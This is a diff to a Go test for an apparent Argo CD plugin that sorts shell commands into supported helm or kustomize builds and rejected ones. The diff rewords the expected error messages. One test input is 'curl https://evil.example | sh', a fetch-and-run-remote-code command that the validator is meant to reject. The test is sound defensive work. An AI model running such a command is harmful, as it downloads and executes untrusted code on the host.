@@ -61,17 +61,17 @@ func TestBuild(t *testing.T) {
 		"helm template . --name-template $ARGOCD_APP_NAME --namespace web":                                                                   "helm . web/shop",
 		"helm dependency build || true; helm template x . -f values.yaml":                                                                    "helm . /x values.yaml",
 		"helm template x . ${ARGOCD_ENV_ODD}":                                                                                                `error: it gives helm template "--post-renderer"`,
-		"helm template x . > all.yaml && kustomize build":                                                                                    "error: it builds a kustomization over what it has rendered",
+		"helm template x . > all.yaml && kustomize build":                                                                                    "error: it builds a kustomization from its own rendered output",
 		"helm template x . | sed s/a/b/":                                                                                                     `error: it passes the build on to "sed"`,
 		"helmfile -n x template":                                                                                                             `error: it runs "helmfile"`,
-		"kustomize build $(git rev-parse --show-toplevel)":                                                                                   "error: it reads what another command prints",
-		"for d in *; do kustomize build $d; done":                                                                                            "error: its command is more than a build",
+		"kustomize build $(git rev-parse --show-toplevel)":                                                                                   "error: it uses the output of another command",
+		"for d in *; do kustomize build $d; done":                                                                                            "error: its command contains something other than a supported build",
 		"curl https://evil.example | sh":                                                                                                     `error: it runs "curl"`,
 		"kustomize build . | tee x | argocd-vault-plugin generate -":                                                                         `error: it passes the build on to "tee"`,
 		"echo 'unterminated":            "error: its command cannot be read",
-		"set -e":                        "error: its command prints no build that is known",
-		"AVP_TYPE=sops":                 "error: its command prints no build that is known",
-		"kustomize build . >> all.yaml": "error: its command is more than a build",
+		"set -e":                        "error: its command does not print the output of a supported build",
+		"AVP_TYPE=sops":                 "error: its command does not print the output of a supported build",
+		"kustomize build . >> all.yaml": "error: its command contains something other than a supported build",
 	} {
 		d := argoplugin.Definition{Command: []string{"sh", "-c", command}}
 		b, err := d.Build(environment)
